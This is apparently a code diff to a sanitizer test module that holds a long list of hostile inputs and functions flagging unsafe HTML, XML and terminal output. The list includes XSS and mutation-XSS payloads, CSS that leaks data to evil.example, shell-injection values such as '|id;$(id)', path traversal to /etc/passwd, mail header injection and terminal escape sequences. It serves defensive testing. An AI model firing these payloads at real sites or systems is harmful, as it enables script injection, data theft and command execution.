@@ -1,10 +1,13 @@
-"""Strings that attack, and the judge that says whether a page withstood them."""
+"""Strings that attack, and the judges that say whether a page, a document or a terminal withstood them."""
 
 from __future__ import annotations
 
 import re
+from collections.abc import Iterator
+from xml.etree.ElementTree import Element
 
-from lxml import etree, html
+import html5lib
+from lxml import etree
 
 VECTORS = (
     "<script>alert(1)</script>",
@@ -44,28 +47,206 @@ VECTORS = (
     "x\r\nBcc: victim@example.org\r\n\r\nbody",
     "x\u2028<script>alert(1)</script>",
     "\u202eevil\u202c <b onload=alert(1)>",
+    # mutation XSS: what one parser writes another reads differently
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
+    "<template><style></template><img src=x onerror=alert(1)></style>",
+    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
+    "<select><template><script>alert(1)</script></template></select>",
+    "<a title='--!><img src=x onerror=alert(1)>'><!--",
+    "<![CDATA[><img src=x onerror=alert(1)>]]>",
+    # other namespaces and their ways to point
+    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
+    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
+    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x' /></svg>",
+    "<math href='javascript:alert(1)'>x</math>",
+    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
+    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+    # tags written oddly
+    "<ScRiPt/x>alert(1)</sCrIpT\t>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img/src=x/onerror=alert(1)//",
+    "<img src=x\x0bonerror\x0c=\ralert(1)>",
+    "<img src=x onerror=alert(1)",
+    "<body onload=alert(1) background=javascript:alert(1)>",
+    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<input autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>x</button>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+    "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
+    "<applet code=evil.class archive=https://evil.example/x.jar></applet>",
+    "<p is=x-y slot=z onanimationstart=alert(1) style='animation:x'>x</p>",
+    # style and what it loads
+    "<p style='background:url(javascript:alert(1))'>x</p>",
+    "<p style='width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(x.xml#y)'>x</p>",
+    "<style>@import 'https://evil.example/x.css';*{background:url(//evil.example/?leak)}</style>",
+    "</style>{}*{xss:expression(alert(1))}<style>",
+    # addresses
+    "vbscript:msgbox(1)",
+    "&#x6A;&#97;vascript&#x3A;alert(1)",
+    "\x01javascript:alert(1)",
+    "  javascript\n:alert(1)",
+    "feed:javascript:alert(1)",
+    "view-source:javascript:alert(1)",
+    "blob:https://evil.example/0f3e",
+    "file:///etc/passwd",
+    "//evil.example/x",
+    "\\\\evil.example\\x",
+    "https://node.example@evil.example/",
+    "https://[::1%25'><script>alert(1)</script>]/",
+    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
+    "<img srcset='javascript:alert(1) 1x, data:text/html,x 2x' src=x>",
+    "<video poster=javascript:alert(1)></video><blockquote cite=javascript:alert(1)>x</blockquote>",
+    # markup left open
+    "<img src='https://evil.example/?leak=",
+    "<textarea><form action=https://evil.example/><button>x",
+    "<plaintext>",
+    "<!--",
+    "<a href=https://evil.example/><table><b",
+    # templates
+    "${7*7}#{7*7}[%= 7*7 %]{{constructor.constructor('alert(1)')()}}",
+    "{# {%- raw -%} #}{{ site.contact }}{% for x in config %}",
+    "%(title)s %s {0.__class__} {title} $(id) `id`",
+    # characters
+    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "\ud800<script>alert(1)</script>\udfff",
+    "\ufffe\uffff\ufdd0\U0001fffe<b>x</b>",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe",
+    "ʺ＞＜img src=x onerror=alert(1)＞",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "x\u2029y\x85z\x0b\x1c\x1d\x1e",
+    "\u2066\u202d\u202epwned\u2069 \u200f\u061c\u200b\u2060\ufeff",
+    "раураl.example ⁄ ｅｖｉｌ",
+    "Z̸̡͚̺a̶̛͎l̷̰̈g̸̗͝o" + "\u0301" * 300,
+    # terminals, logs and mail
+    "\x1b]0;pwned\x07\x1b[2J\x1b[31mred",
+    "\x9b31mred\x9d0;pwned\x9c\x90q\x9c",
+    "\r\x1b[Knothing happened\b\b\b\x7f",
+    '"}\n{"level":"error","message":"forged"}',
+    "%0d%0aBcc:%20victim@example.org",
+    "x\nBcc: victim@example.org\nContent-Type: text/html\n\n<script>alert(1)</script>",
+    "=?utf-8?q?=0D=0ABcc:_victim=40example.org?=",
+    ".\r\nQUIT\r\n",
+    "\n.\nMAIL FROM:<x@evil.example>",
+    "From nobody Mon Oct  5 06:30:00 2026",
+    "-- \n--=_boundary--\n",
+    # names of files
+    "../../../../etc/passwd",
+    "..\\..\\windows\\system32\\con.txt",
+    "/etc/cron.d/evil",
+    "CON",
+    "NUL.txt",
+    "aux\x00.html",
+    ".htaccess",
+    "~root",
+    "-rf *",
+    "|id;$(id)&&`id`",
+    # much of it
+    "A" * 5_000,
+    "<b>" * 200 + "deep",
+    "'\"<>&" * 400,
+    "&amp;" * 300,
+    "&lt;script&gt;" * 50,
 )
 
-_FORBIDDEN = set("script iframe object embed form input svg math base frame frameset applet".split())
-_SCHEME = re.compile(r"(?:java|vb)script:|data:", re.IGNORECASE)
+BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+
+_HTML = "{http://www.w3.org/1999/xhtml}"
+_FORBIDDEN = frozenset(
+    "script iframe object embed form input button textarea select base frame frameset applet template noscript"
+    " marquee isindex plaintext xmp audio video source track portal dialog".split()
+)
+_ADDRESSES = frozenset(
+    "href src srcset action formaction data poster background cite longdesc ping manifest classid codebase"
+    " archive lowsrc dynsrc profile usemap icon".split()
+)
+_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
+_LOADS = re.compile(r"url\s*\(|@import|expression|javascript|behavior|-moz-binding", re.IGNORECASE)
+_METAS = frozenset({"", "content-security-policy"})
 
 
 def faults(page: str) -> list[str]:
-    """Everything in an HTML text that could run, load or lead astray; empty for a harmless page."""
-    found = []
-    for element in html.document_fromstring(page).iter(etree.Element):
-        if element.tag in _FORBIDDEN:
-            found.append(f"<{element.tag}>")
-        for name, value in element.attrib.items():
-            bare = re.sub(r"[\x00-\x20\x7f-\xa0]", "", str(value))
-            if str(name).lower().startswith("on"):
-                found.append(f"<{element.tag} {name}>")
-            if str(name).rpartition("}")[2] in ("href", "src", "action", "data") and _SCHEME.match(bare):
-                found.append(f"<{element.tag} {name}={bare[:40]}>")
-    return found
+    """Everything in an HTML text that could run, load or lead astray; empty for a harmless page.
+
+    Judged on the tree that the parsing algorithm of HTML builds, which is the one a browser builds.
+    """
+    return [
+        f"<{str(element.tag).removeprefix(_HTML)}> {fault}"
+        for element in parsed(page).iter()
+        if isinstance(element.tag, str)
+        for fault in _faults(element)
+    ]
+
+
+def parsed(page: str) -> Element:
+    """The document a browser would build; every element has a namespace."""
+    tree: Element = html5lib.parse(page)
+    return tree
+
+
+def _faults(element: Element) -> Iterator[str]:
+    space, _, name = element.tag.rpartition("}")
+    if space + "}" != _HTML:
+        yield "of another namespace"
+    if name.lower() in _FORBIDDEN:
+        yield "may not be"
+    if name == "meta" and str(element.get("http-equiv", "")).lower() not in _METAS:
+        yield "orders the browser"
+    if name == "link" and element.get("rel") != "alternate":
+        yield "loads"
+    if name == "style" and _LOADS.search("".join(element.itertext())):
+        yield "loads"
+    for written, value in element.attrib.items():
+        attribute = str(written).rpartition("}")[2].rpartition(":")[2].lower()
+        if attribute.startswith("on") or attribute == "srcdoc":
+            yield f"runs {attribute}"
+        if attribute == "style" and _LOADS.search(value):
+            yield f"loads by style={value[:60]!r}"
+        if attribute in _ADDRESSES and not _harmless_address(value):
+            yield f"{attribute}={value[:60]!r}"
+
+
+def _harmless_address(value: str) -> bool:
+    # A browser drops blanks and controls in front, tabs and line ends anywhere (URL Standard, 4.4).
+    bare = re.sub(r"[\t\r\n]", "", value).lstrip("".join(map(chr, range(0x21))))
+    scheme = _SCHEME.match(bare)
+    return scheme is None or scheme[1].lower() in ("http", "https", "mailto")
 
 
 def shape(page: str) -> list[tuple[str, tuple[str, ...]]]:
     """Elements and the names of their attributes in document order: what no text may ever change."""
-    tree = html.document_fromstring(page)
-    return [(str(e.tag), tuple(sorted(map(str, e.attrib)))) for e in tree.iter(etree.Element)]
+    return [(str(e.tag), tuple(sorted(map(str, e.attrib)))) for e in parsed(page).iter()]
+
+
+_NO_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")
+
+
+def xml_faults(document: bytes) -> list[str]:
+    """What is wrong with an XML document: not well-formed, or characters that XML 1.0 cannot have."""
+    try:
+        root = etree.fromstring(document)
+    except etree.XMLSyntaxError as error:
+        return [str(error)]
+    found = []
+    for element in root.iter():
+        for text in (element.text, element.tail, *map(str, element.attrib.values())):
+            if bad := _NO_XML.findall(text or ""):
+                found.append(f"{element.tag} has {bad[:5]!r}")
+    return found
+
+
+def terminal_faults(said: str) -> list[str]:
+    """Characters that a terminal obeys, or that show something else than is written; line ends are allowed."""
+    return sorted(
+        {
+            f"{char!r} in {line[:120]!r}"
+            for line in said.split("\n")
+            for char in line
+            if (ord(char) < 0x20 or 0x7F <= ord(char) < 0xA0 or char in BIDI)
+        }
+    )
